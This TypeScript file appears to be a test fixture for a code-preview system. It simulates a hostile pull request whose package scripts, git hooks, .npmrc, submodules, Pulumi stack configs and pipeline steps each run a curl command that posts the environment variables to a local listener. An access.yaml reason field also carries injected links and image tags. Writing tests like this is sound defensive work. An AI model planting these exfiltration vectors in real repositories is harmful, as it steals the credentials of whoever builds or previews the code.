/**
 * A pull request of somebody who may push a branch, and wants the credentials of whoever previews it: every file of it
 * that anything might run, read as configuration or show sends what it finds to a server of his.
 */
import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { createServer, type Server } from "node:net";
import type { AddressInfo } from "node:net";

const run = promisify(execFile);

export class Attacker {
  /** What arrived, whatever it was. */
  readonly received: string[] = [];
  private constructor(private readonly server: Server) {}

  static async start(): Promise<Attacker> {
    const server = createServer();
    const attacker = new Attacker(server);
    server.on("connection", (socket) => {
      const index = attacker.received.push("") - 1;
      socket.on(
        "data",
        (bytes) => (attacker.received[index] = `${attacker.received[index] ?? ""}${bytes.toString()}`),
      );
      socket.on("error", () => undefined);
      socket.end("HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    return attacker;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  /** JavaScript that prints its environment, and sends it. */
  get code(): string {
    return `console.log(JSON.stringify(process.env));
const { execFileSync } = require("node:child_process");
execFileSync("curl", ["--silent", "--max-time", "5", "--data", JSON.stringify(process.env), "${this.url}"]);\n`;
  }

  /** The same for a shell. */
  get shell(): string {
    return `env; env | curl --silent --max-time 5 --data-binary @- ${this.url}`;
  }

  /** Shows that the code does what it is for. */
  async provesItself(): Promise<void> {
    const env = { PATH: process.env.PATH, CANARY: "seen" };
    await run(process.execPath, ["-e", this.code], { env });
    await run("/bin/sh", ["-c", this.shell], { env });
  }

  /** @param data of main @param main files of the program */
  files(data: Readonly<Record<string, string>>): Record<string, string> {
    const script = `#!/bin/sh\n${this.shell}\n`;
    const stack = (name: string) => {
      const text = data[`stacks/Pulumi.${name}.yaml`] ?? "";
      const away = text
        .replace(/(bitbucket-keycloak:keycloak:\n\s+url: ).*/, `$1${this.url}`)
        .replace(/(bitbucket-keycloak:bitbucket:\n\s+url: ).*/, `$1${this.url}`);
      return `${away.replace(/^config:\n/m, `config:\n  keycloak:url: ${this.url}\n  pulumi:disable-default-providers: ["*"]\n`)}\nenvironment: [attacker/environment]\n`;
    };
    const reason = `](${this.url}) <img src=${this.url}/x> [click](${this.url}) @{557058:ana} \`\`\` # Approved ${this.url}`;
    const grant = `  - { team: support, can: [trigger], on: PAY/web, reason: ${JSON.stringify(reason)} }\n`;
    const scripts = Object.fromEntries(
      [
        "preinstall",
        "install",
        "postinstall",
        "prepare",
        "preview",
        "pull-request",
        "prepull-request",
        "setup",
      ].map((name) => [name, this.shell]),
    );
    return {
      "access.yaml": `${data["access.yaml"] ?? ""}${grant}`,
      "stacks/Pulumi.prod.yaml": stack("prod"),
      "stacks/Pulumi.dev.yaml": stack("dev"),
      "stacks/Pulumi.evil.yaml": stack("prod"),
      "stacks/evil.ts": this.code,
      "index.ts": this.code,
      "program/declared.ts": this.code,
      "commands/main.ts": this.code,
      "toolchain/run.mjs": this.code,
      "packages/bitbucket/pulumi-resource-bitbucket": script,
      "package.json": JSON.stringify({ name: "bitbucket-keycloak", scripts }),
      "package-lock.json": "{}",
      ".npmrc": "script-shell=./evil.sh\n",
      "evil.sh": script,
      ".githooks/post-checkout": script,
      ".gitattributes": "* filter=evil diff=evil merge=evil\n",
      ".gitmodules": `[submodule "evil"]\n\tpath = evil\n\turl = ${this.url}/evil.git\n`,
      "Pulumi.yaml": `name: bitbucket-keycloak\nruntime: { name: nodejs, options: { nodeargs: "--require ./index.ts" } }\nmain: evil.ts\nplugins: { providers: [{ name: bitbucket, path: . }] }\n`,
      "tsconfig.json": "{}",
      "program.sh": this.shell,
      "bitbucket-pipelines.yml": `pipelines: { default: [{ step: { script: ["${this.shell.replaceAll('"', '\\"')}"] } }] }\n`,
    };
  }

  stop(): Promise<void> {
    return new Promise((resolve) => {
      this.server.close(() => {
        resolve();
      });
    });
  }
}
